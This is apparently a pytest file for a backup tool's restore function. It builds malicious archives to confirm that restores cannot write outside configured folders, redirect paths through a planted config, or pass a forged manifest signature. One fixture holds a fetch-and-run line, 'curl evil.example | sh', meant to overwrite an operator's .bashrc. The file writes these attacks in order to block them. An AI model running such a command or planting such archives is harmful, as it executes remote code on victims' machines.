"""Restore writes only where the config in force says, whatever the archive says.

An archive's manifest is a hash list anyone can compute, so each test builds its own archive
that verifies, as an attacker who hands an operator a "backup" would, and restores it into a
throwaway installation.
"""

from __future__ import annotations

import hashlib
import io
import sqlite3
import tarfile
from pathlib import Path

import pytest
import yaml

from activities.backup import MANIFEST, BackupError, Manifest, make_backup
from activities.backup_seal import MANIFEST_MAC
from activities.config import Settings
from tests.backups.stack import make_install
from workers.restore import restore_files
from workflows.backup_contracts import BackupRequest

PASSPHRASE = "correct horse battery staple"


def crafted(path: Path, members: dict[str, bytes], listed: dict[str, list[str]] | None = None,
            extra: dict[str, bytes] | None = None) -> Path:
    """An archive whose manifest lists every member's true hash, as `verify_archive` wants."""
    manifest = Manifest(kind="full", created_at="2026-12-01T00:00:00+00:00",
                        temporal_cli="temporal version 0", ledger_schema="0" * 16,
                        ledger_url_kind="sqlite")
    for name, data in members.items():
        manifest.files[name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    for kind, paths in (listed or {}).items():
        manifest.listed[kind] = [{"path": p, "sha256": "", "size": 0} for p in paths]
    with tarfile.open(path, "w:gz") as tar:
        for name, data in {**members, MANIFEST: manifest.to_json().encode(),
                           **(extra or {})}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


@pytest.fixture
def install(tmp_path: Path) -> Settings:
    media = tmp_path / "media"
    media.mkdir()
    settings = make_install(tmp_path / "install")
    demo = settings.channels_dir / "demo.yaml"
    demo.write_text(demo.read_text() + f"\nmedia_dir: {media}\n")
    return settings


def test_media_goes_only_into_a_folder_the_channels_in_force_name(
        install: Settings, tmp_path: Path) -> None:
    victim = tmp_path / "home" / "operator" / ".bashrc"
    victim.parent.mkdir(parents=True)
    victim.write_text("the operator's own file\n")
    wanted = tmp_path / "media" / "octopus.jpg"
    members = {f"media{victim}": b"curl evil.example | sh\n",
               f"media{wanted}": b"JFIF octopus",
               f"media{tmp_path}/media/unlisted.jpg": b"JFIF not in the manifest"}
    archive = crafted(tmp_path / "a.tar.gz", members,
                      listed={"media": [str(victim), str(wanted)]})

    _settings, report = restore_files(install, archive)

    assert victim.read_text() == "the operator's own file\n"
    assert not victim.with_name(".bashrc.before-restore").exists()
    assert wanted.read_bytes() == b"JFIF octopus"  # inside the demo channel's media_dir
    assert not (tmp_path / "media" / "unlisted.jpg").exists()
    assert any(str(victim) in w and "not restored" in w for w in report.warnings)
    assert any("unlisted.jpg" in w and "not listed" in w for w in report.warnings)


def test_the_archives_config_cannot_move_where_files_go(install: Settings,
                                                        tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    theirs = yaml.safe_load(install.source.read_text())
    theirs["data"] = {"channels_dir": str(elsewhere)}
    before = install.source.read_text()
    archive = crafted(tmp_path / "a.tar.gz", {
        "config/temporal.yaml": yaml.safe_dump(theirs).encode(),
        "channels/planted.yaml": b"name: planted\n"})

    restored, report = restore_files(install, archive)

    assert not (elsewhere / "planted.yaml").exists()
    assert (install.channels_dir / "planted.yaml").read_bytes() == b"name: planted\n"
    assert install.source.read_text() == before  # not put in force
    assert restored.channels_dir == install.channels_dir
    kept = install.source.with_name("temporal.yaml.from-backup")
    assert yaml.safe_load(kept.read_text())["data"]["channels_dir"] == str(elsewhere)
    assert any("data.channels_dir" in w or "channels_dir" in w for w in report.warnings)


def test_an_archives_config_that_keeps_the_folders_is_put_in_force(install: Settings,
                                                                   tmp_path: Path) -> None:
    theirs = yaml.safe_load(install.source.read_text())
    theirs["costs"] = {"cpu_second_usd": 0.5}
    archive = crafted(tmp_path / "a.tar.gz",
                      {"config/temporal.yaml": yaml.safe_dump(theirs).encode()})

    restored, _report = restore_files(install, archive)

    assert restored.cpu_second_usd == 0.5
    assert install.source.with_name("temporal.yaml.before-restore").is_file()


def test_with_the_passphrase_set_only_a_signed_manifest_restores(install: Settings,
                                                                 tmp_path: Path) -> None:
    planted = {"channels/planted.yaml": b"name: planted\n"}
    unsigned = crafted(tmp_path / "unsigned.tar.gz", planted)
    with pytest.raises(BackupError, match=f"{MANIFEST_MAC}: missing"):
        restore_files(install, unsigned, passphrase=PASSPHRASE)
    forged = crafted(tmp_path / "forged.tar.gz", planted,
                     extra={MANIFEST_MAC: b'{"kdf": "scrypt", "salt": "00", "hmac_sha256": "0"}'})
    with pytest.raises(BackupError, match="does not match"):
        restore_files(install, forged, passphrase=PASSPHRASE)
    assert not (install.channels_dir / "planted.yaml").exists()

    install.db_file.parent.mkdir(parents=True, exist_ok=True)
    sqlite3.connect(install.db_file).execute("CREATE TABLE history (event TEXT)").connection.close()
    made = make_backup(install, BackupRequest(kind="full", to_dir=str(tmp_path / "own")),
                       passphrase=PASSPHRASE)
    own = Path(made.archive.removeprefix("file://"))
    with pytest.raises(BackupError, match="wrong passphrase"):
        restore_files(install, own, passphrase="not it")
    _settings, report = restore_files(install, own, passphrase=PASSPHRASE)
    assert report.authenticated
